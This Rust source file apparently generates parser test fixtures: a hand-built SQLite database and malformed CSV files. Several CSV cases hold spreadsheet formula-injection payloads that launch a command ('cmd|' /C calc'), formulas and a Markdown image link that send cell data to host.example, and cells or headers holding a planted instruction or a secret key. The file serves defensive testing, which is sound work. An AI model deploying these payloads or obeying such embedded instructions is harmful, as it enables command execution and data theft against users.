//! Tables: SQLite databases and CSV.

use super::{
    Cases,
    build::{
        Build,
        Means::{Count, Kind as Choice, Length, Offset},
    },
    defect::{KEY, Kind, ORDER},
};

const SQLITE: Kind = Kind::new("sqlite", "db", database);

pub(super) fn make(cases: &mut Cases) {
    SQLITE.make(cases);
    values(cases);
}

/// Two pages of 512 bytes: the schema with one table, and the table with one row.
fn database(b: &mut Build) {
    b.part("header");
    b.raw(b"SQLite format 3\0");
    b.be("page size", Length, 2, 512);
    b.be("version to write", Choice, 1, 1);
    b.be("version to read", Choice, 1, 1);
    b.be("space at the end of a page", Length, 1, 0);
    b.raw([64, 32, 32]);
    b.be("changes", Count, 4, 3);
    b.be("pages", Count, 4, 2);
    b.be("first free page", Offset, 4, 0);
    b.be("free pages", Count, 4, 0);
    b.be("version of the schema", Choice, 4, 1);
    b.be("format of the schema", Choice, 4, 4);
    b.zeros(8);
    b.be("encoding", Choice, 4, 1);
    b.zeros(32);
    b.be("pages were counted at", Count, 4, 3);
    b.be("version of the writer", Choice, 4, 3_045_000);
    b.part("schema page");
    let sql = b"CREATE TABLE t(a)";
    // Six columns: the row's header, table, t, t, the page of its rows, and how it was made.
    let record = [&[7, 23, 15, 15, 1, 13 + 34, 0][..0], &[6, 23, 15, 15, 1, 47], b"tablett", &[2], sql].concat();
    leaf(b, ["cells of the schema", "cell place of the schema", "cell length of the schema"], 512, &record);
    b.part("table page");
    let cell = b.says("cell", "the same words");
    let name = u8::try_from(13 + 2 * cell.len()).unwrap_or(u8::MAX);
    let record =
        if cell.len() < 57 { [&[2, name][..], &cell].concat() } else { [&[3, 0x81, name & 0x7f][..], &cell].concat() };
    leaf(b, ["cells", "cell place", "cell length"], 1024, &record);
}

/// A page of one row that ends there.
fn leaf(b: &mut Build, names: [&'static str; 3], end: usize, record: &[u8]) {
    let start = end - record.len() - 2;
    let page = end - 512;
    b.be(if page == 0 { "type of the first page" } else { "type of the page" }, Choice, 1, 13);
    b.be(if page == 0 { "first free block of the schema" } else { "first free block" }, Offset, 2, 0);
    b.be(names[0], Count, 2, 1);
    b.be(if page == 0 { "begin of the schema cells" } else { "begin of the cells" }, Offset, 2, start - page);
    b.raw([0]);
    b.be(names[1], Offset, 2, start - page);
    b.bytes.resize(start, 0);
    b.be(names[2], Length, 1, record.len());
    b.raw([1]);
    b.raw(record);
}

fn values(cases: &mut Cases) {
    let wide = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let rows: Vec<(&str, &str, Vec<u8>)> = vec![
        ("rows-of-other-lengths", "rows have more and fewer cells than the head", b"a,b,c\n1,2\n1,2,3,4\n".to_vec()),
        ("quote-never-closed", "a cell opens a quote and never closes it", b"a,b\n\"1,2\n3,4\n".to_vec()),
        ("quote-inside-a-cell", "a quote stands in the middle of a cell", b"a,b\n1\"2,3\n".to_vec()),
        ("zeros-between", "a cell holds a NUL", b"a,b\n1,2\x003\n".to_vec()),
        (
            "byte-order-mark",
            "a byte order mark stands in front, which spreadsheets write",
            b"\xef\xbb\xbfa,b\n1,2\n".to_vec(),
        ),
        ("wide-letters", "the table is of letters of two bytes", [vec![0xff, 0xfe], wide("a,b\n1,2\n")].concat()),
        ("not-utf8", "a cell is of an old code page", b"name,town\nM\xfcller,K\xf6ln\n".to_vec()),
        (
            "formula-behind-a-tab",
            "a formula stands behind a tab",
            b"a,b\n\"\t=HYPERLINK(\"\"https://host.example/\"\"&A1)\",2\n".to_vec(),
        ),
        ("formula-behind-a-plus", "a formula begins with a plus", b"a,b\n+cmd|' /C calc'!A0,2\n".to_vec()),
        ("formula-behind-an-at", "a formula begins with an at", b"a,b\n@SUM(cmd|' /C calc'!A0),2\n".to_vec()),
        ("formula-in-a-quote", "a formula stands in quotes", b"a,b\n\"=cmd|' /C calc'!A0\",2\n".to_vec()),
        ("formula-after-semicolons", "a formula stands between semicolons", b"a;b\n1;=cmd|' /C calc'!A0\n".to_vec()),
        (
            "formula-in-wide-letters",
            "a formula of letters of two bytes",
            [vec![0xff, 0xfe], wide("a,b\n=cmd|' /C calc'!A0,2\n")].concat(),
        ),
        (
            "formula-of-web",
            "a formula fetches a page",
            b"a,b\n\"=WEBSERVICE(\"\"https://host.example/\"\"&A1)\",2\n".to_vec(),
        ),
        ("formula-in-the-head", "a formula stands in the head of the table", b"=cmd|' /C calc'!A0,b\n1,2\n".to_vec()),
        ("separator-line", "the first line tells spreadsheets another separator", b"sep=;\na;b\n1;2\n".to_vec()),
        ("honest-numbers-below-zero", "numbers below nought are no formulas", b"day,change\n1,-3.5\n2,+4\n".to_vec()),
        ("honest-quoted-lines", "a cell has a line break in quotes", b"name,note\nann,\"first\nsecond\"\n".to_vec()),
        ("attack-in-a-cell", "a cell is an order", format!("id,note\n1,{ORDER}\n").into_bytes()),
        ("attack-in-the-head", "the name of a column is an order", format!("id,{ORDER}\n1,2\n").into_bytes()),
        ("key-in-a-cell", "a cell is a key", format!("id,key\n1,{KEY}\n").into_bytes()),
        (
            "link-in-a-cell",
            "a cell is a link of Markdown that sends data away",
            b"id,note\n1,![a](https://host.example/?q=data)\n".to_vec(),
        ),
        ("line-of-a-thousand-cells", "a line has a thousand cells", format!("a\n{}\n", ",".repeat(1000)).into_bytes()),
    ];
    for (name, why, text) in rows {
        cases.text("csv", &format!("{name}.csv"), why, text);
    }
}
